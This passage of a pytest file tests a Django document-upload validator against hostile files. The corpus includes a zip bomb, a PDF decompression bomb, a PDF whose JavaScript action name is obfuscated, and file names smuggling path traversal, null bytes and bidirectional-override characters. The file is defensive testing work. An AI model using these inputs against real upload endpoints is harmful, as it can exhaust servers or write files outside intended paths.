    response = field.post(hostile.name, hostile.content(), hostile.content_type)
    if response.status_code not in (200, 400):
        return f"answered {response.status_code}"
    form = response.context["form"] if response.context else None
    errors = [str(e) for e in form.errors.get(field.field, [])] if form is not None else []
    if not any(hostile.says in e for e in errors):
        return f"message {errors!r} does not say {hostile.says!r}"
    page = response.content.decode()
    if f'id="id_{field.field}_error"' not in page:
        return "the message is not shown next to the field"
    if field.stored_rows() != rows:
        return "a row was stored"
    if stored_files(field.media) != files:
        return f"a file was stored: {set(stored_files(field.media)) - set(files)}"
    return ""


def test_every_hostile_file_is_refused_by_every_field(upload_field: Field, capsys):
    failures = {h.id: why for h in CORPUS if (why := refusal(upload_field, h))}
    with capsys.disabled():
        print(
            f"\n[upload corpus] {upload_field.key}: {len(CORPUS)} hostile files tried, "
            f"{len(CORPUS) - len(failures)} refused"
        )
    assert failures == {}
    assert len(CORPUS) >= 20


def test_the_corpus_is_what_it_claims_to_be():
    """The hostile files are hostile in the way their names say, so that a refusal above is for
    that reason and not an accident of how they were built."""
    bomb = zip_bomb()
    assert len(bomb) < 1.2 * MiB
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        info = archive.getinfo("[Content_Types].xml")
        assert info.file_size == GiB
        with archive.open(info) as part:
            assert part.read(4 * MiB) == bytes(4 * MiB)  # it really inflates
    objstm = pdf_with_object_stream([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", JS])
    assert b"JavaScript" not in objstm and b"OpenAction" not in objstm  # only once inflated
    assert b"JavaScript" not in pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>")
    for good in (realistic_docx(), as_zip64(docx()), streamed_docx()):
        with zipfile.ZipFile(io.BytesIO(good)) as archive:
            assert archive.testzip() is None
    assert 8 * MiB < len(realistic_docx()) < MAX_DOCUMENT_BYTES


GOOD = [
    ("minimal.pdf", lambda: MINIMAL_PDF, "application/pdf", PDF),
    ("minimal.docx", docx_bytes, DOCX_TYPE, DOCX),
    ("Informe anual 2025.docx", realistic_docx, DOCX_TYPE, DOCX),
    ("informe-weasyprint.pdf", weasyprint_pdf, "application/pdf", PDF),
    ("informe-pdfa.pdf", lambda: weasyprint_pdf("pdf/a-3b"), "application/pdf", PDF),
    (
        "opens-on-page-one.pdf",
        lambda: pdf(catalog=b"/OpenAction[3 0 R/Fit]/PageMode/UseOutlines"),
        "application/pdf",
        PDF,
    ),
    (
        "opens-by-reference.pdf",
        lambda: pdf_with_object_stream(
            [b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</S/GoTo/D[3 0 R/Fit]>>"]
        ),
        "application/pdf",
        PDF,
    ),
    ("zip64.docx", lambda: as_zip64(docx(paragraphs=50)), DOCX_TYPE, DOCX),
    ("streamed.docx", streamed_docx, DOCX_TYPE, DOCX),
    # A correct file whose browser claims another type: accepted, stored as what it is.
    ("letter.pdf", lambda: MINIMAL_PDF, "text/html", PDF),
    ("letter.docx", docx_bytes, "application/x-zip-compressed", DOCX),
]


@pytest.mark.parametrize(
    ("name", "content", "content_type", "kind"), GOOD, ids=[g[0] for g in GOOD]
)
def test_good_documents_are_accepted_by_every_field(
    upload_field: Field, name, content, content_type, kind
):
    data = content()
    response = upload_field.post(name, data, content_type)
    assert response.status_code == 302, (
        response.context["form"].errors if response.context else response
    )
    (stored,) = stored_files(upload_field.media)
    assert stored.read_bytes() == data and stored.suffix == kind.extension
    assert upload_field.stored_rows() >= 1


def test_the_browsers_content_type_is_replaced_by_the_contents():
    """Storage (S3) keeps an upload's content_type as the object's: it must be the proven one."""
    upload = SimpleUploadedFile("letter.pdf", MINIMAL_PDF, content_type="text/html")
    assert validate_document(upload) == PDF
    assert upload.content_type == "application/pdf"


@pytest.mark.parametrize(
    "name",
    [
        "../letter.pdf",
        "..\\..\\letter.pdf",
        "/etc/letter.pdf",
        "letter\x00.pdf",
        "carta\u202efdp.pdf",
        "carta\u2066.pdf",
        "carta\u200b.pdf",
        ".letter.pdf",
        "CON.pdf",
        "lpt1.docx",
        "letter.pdf ",
        "letter.pdf.",
        "carta\uff0f..\uff0fx.pdf",  # fullwidth solidus: "/" once NFKC-normalised
        "carta\u2028.pdf",
    ],
)
def test_names_are_checked_even_where_django_did_not_clean_them(name):
    """Every caller of ``validate_document`` gets the check, not only forms behind Django's
    multipart parser (which strips paths and unprintable characters first)."""
    upload = SimpleUploadedFile("x.pdf", MINIMAL_PDF)
    upload._name = name  # as a caller that does not clean names hands it over
    with pytest.raises(ValidationError) as refused:
        validate_document(upload)
    assert refused.value.code == "bad_name"


# --- Cheap and bounded --------------------------------------------------------------------------


def _in_process(content: bytes, name: str) -> tuple[float, int, str]:
    upload = SimpleUploadedFile(name, content)
    tracemalloc.start()
    start = time.perf_counter()
    try:
        validate_document(upload)
        outcome = "accepted"
    except ValidationError as exc:
        outcome = exc.messages[0]
    seconds = time.perf_counter() - start
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return seconds, peak, outcome


RSS_PROBE = textwrap.dedent(
    """
    import json, os, resource, sys, time
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "vpswg.settings")
    import django
    django.setup()
    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile
    from vpswg.uploads import validate_document

    def rss(field):
        with open("/proc/self/status") as status:
            return next(int(l.split()[1]) for l in status if l.startswith(field + ":"))

    upload = SimpleUploadedFile(sys.argv[2], open(sys.argv[1], "rb").read())
    before = rss("VmRSS")
    try:  # the peak from now on (Linux), else the process's peak so far: never less
        with open("/proc/self/clear_refs", "w") as refs:
            refs.write("5")
    except OSError:
        pass
    start = time.perf_counter()
    try:
        validate_document(upload)
        outcome = "accepted"
    except ValidationError as exc:
        outcome = exc.messages[0]
    seconds = time.perf_counter() - start
    print(json.dumps({"grew_kib": rss("VmHWM") - before, "seconds": seconds, "outcome": outcome}))
    """
)


def _in_subprocess(tmp_path: Path, content: bytes, name: str) -> dict:
    path = tmp_path / "probe.bin"
    path.write_bytes(content)
    result = subprocess.run(
        [sys.executable, "-c", RSS_PROBE, str(path), name],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("letter.docx", zip_bomb, "a part larger than 64.0\xa0MB"),
        ("letter.pdf", pdf_bomb, "larger than 8.0\xa0MB when decompressed"),
    ],
    ids=["zip-bomb", "pdf-object-stream-bomb"],
)
def test_bombs_are_refused_in_well_under_a_second_and_50_mb(tmp_path, capsys, name, build, says):
    content = build()
    seconds, peak, outcome = _in_process(content, name)
    assert says in outcome
    assert seconds < 1.0
    assert peak < 50 * MiB
    probe = _in_subprocess(tmp_path, content, name)
    assert says in probe["outcome"]
    assert probe["seconds"] < 1.0
    assert probe["grew_kib"] * KiB < 50 * MiB
    with capsys.disabled():
        print(
            f"\n[upload corpus] {name} bomb ({len(content) / MiB:.1f} MiB, 1 GiB inflated): "
            f"refused in {seconds * 1000:.1f} ms in process, tracemalloc peak "
            f"{peak / MiB:.2f} MiB; in a fresh process {probe['seconds'] * 1000:.1f} ms, "
            f"peak RSS growth {probe['grew_kib'] / KiB:.2f} MiB"
        )


def test_the_zip_bomb_on_the_public_form_costs_the_request_little(client, group, capsys):
    """The incident, replayed: ``POST /<wg>/apply/`` signed out with the bomb."""
    body, header = multipart(APPLICATION_DATA, "letter", "letter.docx", zip_bomb(), DOCX_TYPE)
    url = reverse("apply:form", kwargs={"wg": group.slug})
    # What the bomb costs, not the process's first upload: the first one loads the template
    # engine, the catalogues and the document checks' modules, which under tracemalloc took
    # seconds alone (when this test ran first in its process).
    small, small_header = multipart(
        APPLICATION_DATA, "letter", "letter.docx", realistic_docx(), DOCX_TYPE
    )
    assert client.post(url, data=small, content_type=small_header).status_code in (200, 302)
    tracemalloc.start()
    start = time.perf_counter()
    response = client.post(url, data=body, content_type=header)
    seconds = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert response.status_code == 200
    assert "a part larger than 64.0\xa0MB" in str(response.context["form"].errors["letter"])
    assert seconds < 1.0 and peak < 50 * MiB
    with capsys.disabled():
        print(
            f"\n[upload corpus] POST /apply/ with the zip bomb: {response.status_code} in "
            f"{seconds * 1000:.0f} ms, tracemalloc peak {peak / MiB:.1f} MiB"
        )


def test_a_large_real_document_is_checked_quickly():
    for name, content in (("report.docx", realistic_docx()), ("report.pdf", weasyprint_pdf())):
        seconds, peak, outcome = _in_process(content, name)
        assert outcome == "accepted"
        assert seconds < 1.0 and peak < 50 * MiB


# --- The browser's own size check -------------------------------------------------------------


def test_every_upload_input_carries_the_limit_and_the_servers_message(client, group):
    sign_in(client, make_member(group))
    expected = message("too_large", size="%(size)s", limit=filesizeformat(MAX_DOCUMENT_BYTES))
    pages = {
        "letter": reverse("apply:form", kwargs={"wg": group.slug}),
        "file": reverse("members:report", kwargs={"wg": group.slug}),
        "evidence": reverse("activities:new", kwargs={"wg": group.slug}),
    }
    for field, url in pages.items():
        attrs = client.get(url).context["form"][field].field.widget.attrs
        assert attrs["data-max-bytes"] == str(MAX_DOCUMENT_BYTES)
        assert str(attrs["data-max-message"]) == expected
        assert attrs["accept"].startswith(".pdf,.docx")
        page = client.get(url).content.decode()
        assert f'data-max-bytes="{MAX_DOCUMENT_BYTES}"' in page
        assert 'src="/static/js/uploads.js"' in page or "js/uploads.js" in page


@pytest.mark.e2e
@pytest.mark.django_db(transaction=True)
def test_the_browser_refuses_an_oversized_file_before_sending_it(live_server, page):
    from playwright.sync_api import expect

    make_group("andes", name="Andes Working Group")
    page.goto(f"{live_server.url}/andes/apply/")
    letter = page.locator("#id_letter")
    size = MAX_DOCUMENT_BYTES + 2 * MiB + 512 * KiB
    letter.set_input_files(
        {"name": "carta.pdf", "mimeType": "application/pdf", "buffer": MINIMAL_PDF.ljust(size)}
    )
    alert = page.locator("#id_letter_size_error")
    expect(alert).to_have_attribute("role", "alert")
    expect(alert).to_have_text(
        message("too_large", size=filesizeformat(size), limit=filesizeformat(MAX_DOCUMENT_BYTES))
    )
    assert letter.evaluate("input => input.files.length") == 0
    assert letter.get_attribute("aria-invalid") == "true"
    # A file within the limit clears the message and stays chosen.
    letter.set_input_files(
        {"name": "carta.pdf", "mimeType": "application/pdf", "buffer": MINIMAL_PDF}
    )
    expect(alert).to_have_count(0)
    assert letter.evaluate("input => input.files.length") == 1
